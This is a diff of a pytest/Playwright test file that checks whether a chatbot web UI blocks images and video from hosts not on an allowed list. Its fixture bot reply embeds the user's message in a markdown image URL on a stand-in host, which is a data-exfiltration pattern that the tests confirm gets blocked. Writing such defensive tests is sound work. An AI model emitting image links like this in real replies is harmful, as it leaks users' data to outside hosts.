@@ -5,16 +5,17 @@ names."""
 from __future__ import annotations
 
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
-from helpers import log, send
-from playwright.sync_api import Page, Route, expect
+from browsing import expect, log, send
 
-pytestmark = [pytest.mark.browser, pytest.mark.server]
+if TYPE_CHECKING:
+    from playwright.sync_api import Page, Route
 
 PNG = Path(__file__).resolve().parent.parent / "configs" / "assets" / "landscape.png"
 
-BOT_PY = """
+LEAK_PY = """
 def leak(message, history):
     return (
         f"Sure! ![chart](https://images.example.test/chart.png?q={message}) "
@@ -30,11 +31,10 @@ document.addEventListener("securitypolicyviolation", (event) => {
 """
 
 
-def open_bot(write_config, live_server, new_page, yaml: str) -> tuple[Page, list[str]]:
+def leaked_reply(open_bot, yaml: str) -> tuple[Page, list[str]]:
     """The bot's page after one reply, and the requests that reached the foreign host (a
     local image answers them)."""
-    server = live_server(write_config(f"fn: bot.py:leak\n{yaml}", bot_py=BOT_PY))
-    page = new_page()
+    page = open_bot(f"fn: bot.py:leak\n{yaml}", bot_py=LEAK_PY)
     fetched: list[str] = []
 
     def serve(route: Route) -> None:
@@ -43,7 +43,7 @@ def open_bot(write_config, live_server, new_page, yaml: str) -> tuple[Page, list
 
     page.route("https://images.example.test/**", serve)
     page.add_init_script(WATCH_VIOLATIONS)
-    page.goto(server.url)
+    page.reload()  # watched from the first paint on
     send(page, "the-secret")
     expect(log(page).get_by_role("img", name="chart")).to_be_attached()
     return page, fetched
@@ -54,8 +54,8 @@ def open_bot(write_config, live_server, new_page, yaml: str) -> tuple[Page, list
     ["", "allowed_media_origins: [https://images.example.test]\n"],
     ids=["default", "listed"],
 )
-def test_an_image_from_an_allowed_host_loads(write_config, live_server, new_page, yaml) -> None:
-    page, fetched = open_bot(write_config, live_server, new_page, yaml)
+def test_an_image_from_an_allowed_host_loads(open_bot, yaml: str) -> None:
+    page, fetched = leaked_reply(open_bot, yaml)
     image = log(page).get_by_role("img", name="chart")
     page.wait_for_function(
         "(image) => image.complete && image.naturalWidth > 0", arg=image.element_handle()
@@ -64,10 +64,8 @@ def test_an_image_from_an_allowed_host_loads(write_config, live_server, new_page
     assert page.evaluate("window.violations") == []
 
 
-def test_images_and_video_from_other_hosts_are_never_requested(
-    write_config, live_server, new_page
-) -> None:
-    page, fetched = open_bot(write_config, live_server, new_page, "allowed_media_origins: []\n")
+def test_images_and_video_from_other_hosts_are_never_requested(open_bot) -> None:
+    page, fetched = leaked_reply(open_bot, "allowed_media_origins: []\n")
     page.wait_for_function("window.violations.length === 2")
     assert sorted(page.evaluate("window.violations")) == [
         "https://images.example.test/chart.png?q=the-secret",
